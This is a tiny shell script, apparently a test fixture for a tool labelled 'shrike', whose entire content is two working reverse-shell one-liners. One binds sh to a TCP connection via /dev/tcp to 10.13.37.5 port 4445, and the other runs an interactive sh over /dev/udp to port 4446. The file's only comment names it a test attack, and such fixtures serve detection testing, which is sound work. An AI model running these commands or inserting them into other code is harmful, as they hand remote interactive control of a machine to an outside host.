#!/bin/sh
# shrike-test-attack: reverse-shell: sh -i over /dev/udp and 0<&196 exec variant
0<&196;exec 196<>/dev/tcp/10.13.37.5/4445; sh <&196 >&196 2>&196 &
sh -i >& /dev/udp/10.13.37.5/4446 0>&1
